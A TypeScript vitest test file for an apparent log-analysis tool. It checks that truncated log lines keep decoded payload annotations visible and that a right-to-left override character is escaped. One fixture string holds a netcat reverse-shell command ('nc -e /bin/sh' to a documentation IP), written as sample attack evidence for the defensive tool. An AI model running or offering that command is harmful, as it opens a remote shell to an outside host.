import { expect, it } from "vitest";
import type { Evidence, RecordRow, ShapeId, SourceId } from "@lagebild/domain";
import { evidenceBlock } from "./write-block.js";

const evidenceOf = (text: string): Evidence => ({
  run: { shape: "a" as ShapeId, count: 1, firstLine: 7, lastLine: 7, firstTime: undefined, lastTime: undefined },
  source: "00000000000000aa" as SourceId,
  file: "a.log",
  template: "t",
  meaning: undefined,
  score: 1,
  foundBy: ["words"],
  samples: [{ row: { file: "a.log", line: 7 } as RecordRow, text }],
  neighbours: [],
  variety: undefined,
});
const shown = (text: string, maxCharacters: number): string =>
  evidenceBlock(1, evidenceOf(text), {
    samples: 1,
    neighbours: false,
    firstCharacters: maxCharacters,
    furtherCharacters: 40,
  }).text;

it("keeps what a payload says in sight when the line around it is cut", () => {
  const text = shown(`${"x".repeat(2_000)} ⟪decoded base64: nc -e /bin/sh 203.0.113.7⟫`, 60);
  expect(text).toContain("⟪decoded base64: nc -e /bin/sh 203.0.113.7⟫");
  expect(text.length).toBeLessThan(300);
});

it("cuts a long payload and escapes it like the line", () => {
  const text = shown(`a ⟪decoded hex: one\u202etwo ${"y".repeat(2_000)}⟫`, 200);
  expect(text).toContain("one\\u202etwo");
  expect(text.length).toBeLessThan(500);
});
